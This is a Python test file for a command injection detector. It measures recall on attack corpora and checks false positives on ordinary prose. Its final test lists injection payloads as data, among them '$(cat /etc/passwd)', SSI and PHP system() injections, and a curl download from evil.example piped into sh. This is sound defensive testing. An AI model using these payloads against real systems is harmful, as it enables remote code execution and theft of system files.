"""OS command injection: recall on the attack corpus, false positives on benign values."""

from __future__ import annotations

import pytest

from tests.processors.threat import corpora
from tests.processors.threat.measure import NONE_FLAGGED, benign_hits, recall
from vigil.processors.threat import shell
from vigil.processors.threat.decoding import decode
from vigil.processors.threat.verdict import combine


def detect(value: str):
    return shell.analyse(decode(value, query=True))


def test_recall_on_httpparams_cmdi():
    # Missed: "id", "'true'", "asdf3334" (nothing to see), and bare command lines without a separator
    # ("ping -i 30 127.0.0.1"), which are only a suspicion on their own.
    assert recall("httpparams cmdi", corpora.httpparams_label("cmdi"), detect).rate >= 0.88


def test_recall_on_our_own_cmdi():
    ours = [v for category, v in corpora.attack_values() if category == "cmdi"]
    assert recall("vigil attack_values cmdi", ours, detect).rate == 1.0


def test_false_positives_on_benign_values():
    assert benign_hits(detect) == NONE_FLAGGED


@pytest.mark.parametrize(
    "value",
    [
        "Tom & Jerry",
        "AT&T",
        "R&D; marketing",
        "cat food; dog food",
        "ping me when you're free",
        "rock|paper|scissors",
        "$(document).ready(init)",
        "Run `pip install vigil` first",
        "echo chamber",
        "a; b; c",
        "price: $5 & up",
        "id card renewal",
    ],
)
def test_prose_with_separators_stays_quiet(value):
    assert combine(detect(value)) < 0.5


@pytest.mark.parametrize(
    "value",
    [
        ";id",
        "| whoami",
        "a && curl http://evil.example/x | sh",
        "`uname -a`",
        "$(cat /etc/passwd)",
        "x%0aid",
        "1;${IFS}cat${IFS}/etc/passwd",
        '<!--#exec cmd="id"-->',
        "';system('id');'",
        "& ping -n 10 127.0.0.1 &",
        "|| C:\\Windows\\System32\\cmd.exe /c dir",
    ],
)
def test_injected_commands(value):
    assert combine(detect(value)) >= 0.5
